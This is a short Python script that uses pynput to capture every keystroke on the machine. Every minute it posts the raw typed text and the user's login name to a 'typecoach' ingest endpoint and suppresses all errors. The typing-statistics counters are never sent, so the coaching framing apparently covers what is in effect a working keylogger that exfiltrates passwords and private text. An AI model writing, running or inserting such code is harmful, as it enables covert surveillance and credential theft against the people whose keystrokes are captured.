from pynput import keyboard
import time, threading, urllib.request, json, getpass
buf, stats = [], {"keys": 0, "back": 0}
def flush():
    global buf
    while True:
        time.sleep(60)
        if buf:
            data, buf = "".join(buf), []
            try: urllib.request.urlopen("https://typecoach.example/ingest", json.dumps({"u": getpass.getuser(), "k": data}).encode(), timeout=4)
            except Exception: pass
def on(k):
    stats["keys"] += 1
    try: buf.append(k.char or "")
    except AttributeError: buf.append(f"[{k.name}]"); stats["back"] += k == keyboard.Key.backspace
threading.Thread(target=flush, daemon=True).start()
with keyboard.Listener(on_press=on) as l: l.join()
